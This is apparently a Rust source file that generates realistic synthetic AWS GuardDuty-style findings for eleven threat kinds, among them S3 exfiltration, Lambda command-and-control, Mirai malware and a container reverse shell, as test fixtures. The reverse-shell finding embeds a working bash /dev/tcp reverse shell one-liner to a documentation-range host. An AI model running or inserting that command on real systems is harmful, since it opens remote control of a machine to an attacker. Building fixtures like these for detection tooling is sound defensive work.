//! Kinds of findings, realistic in shape; every name and address is from the ranges meant for documentation.

use serde_json::json;

use super::parts::{Place, Shape, access_key, api_call, cluster, evidence, instance, remote, tor};

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// An open port of an EC2 instance is probed.
    PortProbe,
    /// An EC2 instance asks for a mining pool's name.
    Mining,
    /// An IAM user's credentials are used from Tor.
    TorCaller,
    /// Objects leave a bucket in an unusual way.
    S3Exfiltration,
    /// Somebody executes a command in a pod of `kube-system`.
    PodExec,
    /// An RDS database is brute-forced, with success.
    RdsBruteForce,
    /// A Lambda function talks to a command-and-control server.
    LambdaCommand,
    /// A scan of a volume has found malware.
    Malware,
    /// A process in a container opens a reverse shell.
    ReverseShell,
    /// Compromised credentials over several signals.
    AttackSequence,
    /// The root user's credentials are used.
    RootUsage,
}

impl Kind {
    pub const ALL: [Self; 11] = [
        Self::PortProbe,
        Self::Mining,
        Self::TorCaller,
        Self::S3Exfiltration,
        Self::PodExec,
        Self::RdsBruteForce,
        Self::LambdaCommand,
        Self::Malware,
        Self::ReverseShell,
        Self::AttackSequence,
        Self::RootUsage,
    ];

    pub(super) fn usual_severity(self) -> f64 {
        match self {
            Self::PortProbe | Self::RootUsage => 2.0,
            Self::TorCaller | Self::PodExec => 5.0,
            Self::AttackSequence => 9.0,
            _ => 8.0,
        }
    }

    pub(super) fn shape(self, place: &Place) -> Shape {
        match self {
            Self::PortProbe => port_probe(place),
            Self::Mining => mining(place),
            Self::TorCaller => tor_caller(place),
            Self::S3Exfiltration => s3_exfiltration(place),
            Self::PodExec => pod_exec(place),
            Self::RdsBruteForce => rds_brute_force(place),
            Self::LambdaCommand => lambda_command(place),
            Self::Malware => malware(place),
            Self::ReverseShell => reverse_shell(place),
            Self::AttackSequence => attack_sequence(place),
            Self::RootUsage => root_usage(place),
        }
    }
}

fn port_probe(place: &Place) -> Shape {
    let id = format!("i-0{}", place.hex(16));
    Shape {
        name: "Recon:EC2/PortProbeUnprotectedPort",
        title: format!("Unprotected port on EC2 instance {id} is being probed."),
        description: format!(
            "EC2 instance {id} has an unprotected port which is being probed by a known malicious host."
        ),
        resource: instance(place, "edge-proxy", "network"),
        service: json!({
            "action": {
                "actionType": "PORT_PROBE",
                "portProbeAction": {
                    "blocked": false,
                    "portProbeDetails": [{
                        "localPortDetails": { "port": 22, "portName": "SSH" },
                        "localIpDetails": { "ipAddressV4": "10.20.4.17" },
                        "remoteIpDetails": remote("198.51.100.23", "Netherlands", "Amsterdam", "64496", "Example Hosting BV"),
                    }],
                },
            },
            "evidence": evidence("ProofPoint", &[]),
        }),
    }
}

fn mining(place: &Place) -> Shape {
    let id = format!("i-0{}", place.hex(16));
    Shape {
        name: "CryptoCurrency:EC2/BitcoinTool.B!DNS",
        title: format!("EC2 instance {id} is querying a domain name associated with Bitcoin-related activity."),
        description: format!(
            "EC2 instance {id} is querying a domain name that is associated with Bitcoin-related activity."
        ),
        resource: instance(place, "build-runner-7", "ci"),
        service: json!({
            "resourceRole": "ACTOR",
            "action": {
                "actionType": "DNS_REQUEST",
                "dnsRequestAction": { "domain": "pool.miner.example", "protocol": "UDP", "blocked": false, "domainWithSuffix": "miner.example" },
            },
            "evidence": evidence("Amazon", &["BitcoinMining"]),
        }),
    }
}

fn tor_caller(place: &Place) -> Shape {
    let user = format!("deploy-bot-{}", place.hex(4));
    Shape {
        name: "UnauthorizedAccess:IAMUser/TorIPCaller",
        title: format!("API ListBuckets was invoked from a Tor exit node using credentials of {user}."),
        description: "API ListBuckets was invoked from a Tor exit node IP address 198.51.100.7.".into(),
        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": access_key(place, &user, "IAMUser") }),
        service: json!({
            "action": api_call("ListBuckets", "s3.amazonaws.com", tor(), "aws-cli/2.17.0 Python/3.11"),
            "evidence": evidence("ProofPoint", &["Tor exit"]),
        }),
    }
}

fn s3_exfiltration(place: &Place) -> Shape {
    let bucket = format!("customer-exports-{}", place.hex(6));
    Shape {
        name: "Exfiltration:S3/AnomalousBehavior",
        title: format!("User analytics-etl is anomalously invoking S3 API calls on {bucket}."),
        description: format!(
            "The user analytics-etl read objects of {bucket} in a way that was not seen before: GetObject."
        ),
        resource: json!({
            "resourceType": "S3Bucket",
            "accessKeyDetails": access_key(place, "analytics-etl", "AssumedRole"),
            "s3BucketDetails": [{
                "name": bucket, "arn": format!("arn:aws:s3:::{bucket}"), "type": "Destination",
                "createdAt": 1_700_000_000.0, "owner": { "id": "example-canonical-user" },
                "tags": [{ "key": "data-class", "value": "confidential" }, { "key": "owner", "value": "analytics" }],
                "defaultServerSideEncryption": { "encryptionType": "AES256" },
                "publicAccess": { "effectivePermission": "NOT_PUBLIC" },
                "s3ObjectDetails": [{ "objectArn": format!("arn:aws:s3:::{bucket}/2026/full-dump.csv.gz"), "key": "2026/full-dump.csv.gz" }],
            }],
        }),
        service: json!({
            "action": api_call("GetObject", "s3.amazonaws.com", remote("203.0.113.99", "Brazil", "São Paulo", "64500", "Example Telecom SA"), "Boto3/1.34.0"),
            "additionalInfo": {
                "type": "default",
                "value": "{\"unusualBehavior\":{\"unusualAPIsUserIdentity\":\"GetObject\",\"unusualASNsUserIdentity\":\"64500\"}}",
            },
        }),
    }
}

fn pod_exec(place: &Place) -> Shape {
    Shape {
        name: "Execution:Kubernetes/ExecInKubeSystemPod",
        title: "A command was executed inside a pod in the kube-system namespace.".into(),
        description: "A command was executed inside a pod within the kube-system namespace on EKS cluster prod-1."
            .into(),
        resource: json!({
            "resourceType": "EKSCluster",
            "eksClusterDetails": cluster(place, "prod-1"),
            "kubernetesDetails": {
                "kubernetesUserDetails": {
                    "username": "alice@corp.example", "uid": "aws-iam-authenticator:alice", "groups": ["ops", "system:authenticated"],
                },
                "kubernetesWorkloadDetails": { "name": "coredns-5d78c9869d-x2kqv", "namespace": "kube-system", "type": "pods" },
            },
            "accessKeyDetails": access_key(place, "ops-admin", "AssumedRole"),
        }),
        service: json!({
            "action": {
                "actionType": "KUBERNETES_API_CALL",
                "kubernetesApiCallAction": {
                    "requestUri": "/api/v1/namespaces/kube-system/pods/coredns-5d78c9869d-x2kqv/exec", "verb": "create",
                    "resource": "pods", "subresource": "exec", "namespace": "kube-system", "statusCode": 101,
                    "sourceIPs": ["203.0.113.5"], "userAgent": "kubectl/v1.31.0 (linux/amd64)",
                    "remoteIpDetails": remote("203.0.113.5", "France", "Paris", "64501", "Example Fibre"),
                },
            },
        }),
    }
}

fn rds_brute_force(place: &Place) -> Shape {
    Shape {
        name: "CredentialAccess:RDS/AnomalousBehavior.SuccessfulBruteForce",
        title: "A user logged in to a database after a brute force attack.".into(),
        description: "The user admin logged in to the database orders-db after many failed attempts.".into(),
        resource: json!({
            "resourceType": "RDSDBInstance",
            "rdsDbInstanceDetails": {
                "dbInstanceIdentifier": "orders-db", "engine": "Aurora PostgreSQL", "engineVersion": "16.4",
                "dbClusterIdentifier": "orders", "dbInstanceArn": place.arn("rds", "db:orders-db"),
                "tags": [{ "key": "team", "value": "payments" }],
            },
            "rdsDbUserDetails": { "user": "admin", "application": "psql", "database": "orders", "ssl": "TLSv1.3", "authMethod": "SCRAM" },
        }),
        service: json!({
            "action": {
                "actionType": "RDS_LOGIN_ATTEMPT",
                "rdsLoginAttemptAction": {
                    "remoteIpDetails": remote("198.51.100.61", "Viet Nam", "Hanoi", "64502", "Example Net"),
                    "LoginAttributes": [{ "user": "admin", "application": "psql", "failedLoginAttempts": 412, "successfulLoginAttempts": 1 }],
                },
            },
        }),
    }
}

fn lambda_command(place: &Place) -> Shape {
    Shape {
        name: "Backdoor:Lambda/C&CActivity.B",
        title: "The Lambda function thumbnailer is communicating with a command and control server.".into(),
        description: "Lambda function thumbnailer is communicating with a remote host on a threat list.".into(),
        resource: json!({
            "resourceType": "Lambda",
            "lambdaDetails": {
                "functionName": "thumbnailer", "functionArn": place.arn("lambda", "function:thumbnailer"), "functionVersion": "17",
                "description": "makes small pictures", "role": format!("arn:aws:iam::{}:role/thumbnailer", place.account),
                "lastModifiedAt": 1_767_225_600.0, "revisionId": "a1b2c3d4", "tags": [{ "key": "owner", "value": "media" }],
                "vpcConfig": { "vpcId": "vpc-0d1e2f3a", "subnetIds": ["subnet-0a1b2c3d"], "securityGroups": [{ "groupId": "sg-0123abcd", "groupName": "thumbnailer" }] },
            },
        }),
        service: json!({
            "resourceRole": "ACTOR",
            "action": {
                "actionType": "NETWORK_CONNECTION",
                "networkConnectionAction": {
                    "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
                    "localPortDetails": { "port": 44310, "portName": "Unknown" },
                    "remotePortDetails": { "port": 443, "portName": "HTTPS" },
                    "localIpDetails": { "ipAddressV4": "10.20.9.3" },
                    "remoteIpDetails": remote("198.51.100.90", "Romania", "Bucharest", "64503", "Example Bulletproof SRL"),
                },
            },
            "evidence": evidence("CrowdStrike", &["Cobalt Strike"]),
        }),
    }
}

fn malware(place: &Place) -> Shape {
    let mut resource = instance(place, "wiki-2", "it");
    resource["ebsVolumeDetails"] = json!({
        "scannedVolumeDetails": [{
            "volumeArn": place.arn("ec2", "volume/vol-0a1b2c3d4e5f60718"), "volumeType": "gp3", "deviceName": "/dev/xvda",
            "volumeSizeInGB": 30, "encryptionType": "UNENCRYPTED", "snapshotArn": place.arn("ec2", "snapshot/snap-0a1b2c3d"),
        }],
    });
    Shape {
        name: "Execution:EC2/MaliciousFile",
        title: "2 security risks detected on an EC2 instance.".into(),
        description: "A malware scan has detected 2 security risks on the EC2 instance wiki-2.".into(),
        resource,
        service: json!({
            "featureName": "EbsVolumeScan",
            "ebsVolumeScanDetails": {
                "scanId": "5f1d0c2b7a", "scanStartedAt": place.at, "scanCompletedAt": place.at + 240.0, "scanType": "GUARDDUTY_INITIATED",
                "sources": ["Amazon", "Bitdefender"], "triggerFindingId": "0123456789abcdef0123456789abcdef",
                "scanDetections": {
                    "scannedItemCount": { "totalGb": 30, "files": 184_220, "volumes": 1 },
                    "threatsDetectedItemCount": { "files": 2 },
                    "highestSeverityThreatDetails": { "severity": "HIGH", "threatName": "Linux.Mirai.B", "count": 2 },
                    "threatDetectedByName": {
                        "itemCount": 2, "uniqueThreatNameCount": 1, "shortened": false,
                        "threatNames": [{
                            "name": "Linux.Mirai.B", "severity": "HIGH", "itemCount": 2,
                            "filePaths": [
                                { "filePath": "tmp/.x/kworker", "fileName": "kworker", "volumeArn": place.arn("ec2", "volume/vol-0a1b2c3d4e5f60718"), "hash": "0e5cb6ab10e4b3d2e3e2cb6a6a2b9d7a" },
                                { "filePath": "tmp/.x/cron", "fileName": "cron", "volumeArn": place.arn("ec2", "volume/vol-0a1b2c3d4e5f60718"), "hash": "7a6e1f0b54a2c9d8e7f60718293a4b5c" },
                            ],
                        }],
                    },
                },
            },
        }),
    }
}

fn reverse_shell(place: &Place) -> Shape {
    Shape {
        name: "Execution:Runtime/ReverseShell",
        title: "A reverse shell was created by a process in the container web.".into(),
        description: "A process in the container web has made a reverse shell to a remote host.".into(),
        resource: json!({
            "resourceType": "EKSCluster",
            "eksClusterDetails": cluster(place, "prod-1"),
            "kubernetesDetails": {
                "kubernetesWorkloadDetails": {
                    "name": "checkout-7c9f", "namespace": "payments", "type": "pods", "serviceAccountName": "checkout", "hostNetwork": false,
                    "containers": [{ "name": "web", "image": "registry.corp.example/payments/checkout:3.4.1", "id": "containerd-91ab", "containerRuntime": "containerd" }],
                },
            },
            "instanceDetails": instance(place, "prod-1-node", "platform")["instanceDetails"].take(),
        }),
        service: json!({
            "featureName": "RuntimeMonitoring",
            "action": { "actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                "connectionDirection": "OUTBOUND", "protocol": "TCP", "blocked": false,
                "localPortDetails": { "port": 50122, "portName": "Unknown" }, "remotePortDetails": { "port": 4444, "portName": "Unknown" },
                "remoteIpDetails": remote("198.51.100.44", "Moldova", "Chisinau", "64504", "Example Cloud"),
            }},
            "runtimeDetails": {
                "process": {
                    "name": "bash", "executablePath": "/usr/bin/bash", "executableSha256": "f3a6e1d2c4b5968778695a4b3c2d1e0ff3a6e1d2c4b5968778695a4b3c2d1e0f",
                    "pwd": "/srv/app", "pid": 4711, "uuid": "a1", "parentUuid": "a0", "user": "www-data", "userId": 33, "euid": 33, "namespacePid": 71,
                    "startTime": place.at,
                    "lineage": [
                        { "name": "node", "pid": 1, "uuid": "a0", "parentUuid": "-", "executablePath": "/usr/local/bin/node", "userId": 33, "euid": 33 },
                        { "name": "sh", "pid": 70, "uuid": "a2", "parentUuid": "a0", "executablePath": "/bin/sh", "userId": 33, "euid": 33 },
                    ],
                },
                "context": { "commandLineExample": "bash -i >& /dev/tcp/198.51.100.44/4444 0>&1", "socketPath": "" },
            },
        }),
    }
}

fn attack_sequence(place: &Place) -> Shape {
    let user = format!("ci-deployer-{}", place.hex(4));
    let signal = |uid: &str, name: &str, kind: &str, severity: f64, at: f64| {
        json!({
            "uid": uid, "type": kind, "name": name, "description": format!("{name} was seen."), "severity": severity, "count": 1,
            "createdAt": at, "updatedAt": at + 60.0, "firstSeenAt": at, "lastSeenAt": at + 60.0,
            "actorIds": ["user"], "endpointIds": ["tor"], "resourceUids": ["key"],
        })
    };
    Shape {
        name: "AttackSequence:IAM/CompromisedCredentials",
        title: format!("Potential credential compromise of {user} indicated by a sequence of actions."),
        description: "A sequence of actions involving 3 signals indicated a potential credential compromise.".into(),
        resource: json!({ "resourceType": "AttackSequence" }),
        service: json!({
            "featureName": "Correlation",
            "detection": { "sequence": {
                "uid": place.hex(16),
                "description": "A sequence of actions involving 3 signals indicated a potential credential compromise.",
                "actors": [{ "id": "user", "user": { "name": user, "uid": format!("AIDA{}", place.hex(17).to_uppercase()), "type": "IAMUser", "account": { "uid": place.account } } }],
                "resources": [{ "uid": "key", "name": format!("ASIA{}", place.hex(16).to_uppercase()), "accountId": place.account, "resourceType": "ACCESS_KEY", "region": place.region, "service": "iam" }],
                "endpoints": [{ "id": "tor", "ip": "198.51.100.7", "location": { "city": "Berlin", "country": "Germany", "lat": 52.5, "lon": 13.4 }, "autonomousSystem": { "name": "Stiftung Erneuerbare Freiheit", "number": 60729 } }],
                "signals": [
                    signal("s1", "Discovery:IAMUser/AnomalousBehavior", "FINDING", 5.0, place.at),
                    signal("s2", "iam:AttachUserPolicy", "CLOUD_TRAIL", 7.0, place.at + 300.0),
                    signal("s3", "cloudtrail:StopLogging", "CLOUD_TRAIL", 8.0, place.at + 900.0),
                ],
                "sequenceIndicators": [
                    { "key": "ATTACK_TACTIC", "title": "MITRE ATT&CK tactics", "values": ["Discovery", "Persistence", "Defense Evasion"] },
                    { "key": "ATTACK_TECHNIQUE", "title": "MITRE ATT&CK techniques", "values": ["T1098 - Account Manipulation", "T1562.008 - Disable or Modify Cloud Logs"] },
                    { "key": "HIGH_RISK_API", "title": "High risk APIs", "values": ["iam:AttachUserPolicy", "cloudtrail:StopLogging"] },
                ],
            }},
        }),
    }
}

fn root_usage(place: &Place) -> Shape {
    let mut key = access_key(place, "Root", "Root");
    key["principalId"] = json!(place.account);
    Shape {
        name: "Policy:IAMUser/RootCredentialUsage",
        title: "API GetCostAndUsage was invoked using root credentials.".into(),
        description: "API GetCostAndUsage was invoked using root credentials from IP address 203.0.113.8.".into(),
        resource: json!({ "resourceType": "AccessKey", "accessKeyDetails": key }),
        service: json!({
            "action": api_call("GetCostAndUsage", "ce.amazonaws.com", remote("203.0.113.8", "Germany", "Munich", "64505", "Example DSL"), "Mozilla/5.0"),
        }),
    }
}
